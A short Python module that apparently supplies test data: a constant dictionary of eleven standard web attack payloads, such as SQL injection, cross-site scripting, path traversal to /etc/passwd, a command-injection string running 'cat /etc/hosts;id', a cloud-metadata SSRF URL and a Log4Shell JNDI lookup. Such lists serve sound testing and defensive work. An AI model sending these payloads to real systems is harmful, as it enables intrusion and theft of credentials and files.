"""One payload of each class that travels in any part of a request, as an attacker writes it."""

from typing import Final

PAYLOADS: Final = {
    "sqli": "x' UNION SELECT password FROM users --",
    "xss": "<script>alert(1)</script>",
    "traversal": "../../../../etc/passwd",
    "rce": "x;cat /etc/hosts;id",
    "ssrf": "http://169.254.169.254/latest/meta-data/",
    "ssti": "{{7*7}}",
    "xxe": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///x'>]>",
    "nosql": '{"user":{"$gt":""}}',
    "ldap": "*)(uid=*))(|(uid=*",
    "log4shell": "${jndi:ldap://h/a}",
    "splitting": "a%0d%0aSet-Cookie: b=c",  # A field's value has no line ends of its own.
}
